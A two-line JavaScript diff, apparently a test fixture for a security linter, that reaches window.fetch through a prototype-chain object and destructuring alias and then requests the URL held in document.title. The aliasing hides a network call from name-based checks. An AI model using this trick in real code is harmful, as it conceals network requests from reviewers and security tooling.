@@ -1,0 +1,2 @@
+const own = { __proto__: window }; const { fetch: get } = own;
+get(document.title)
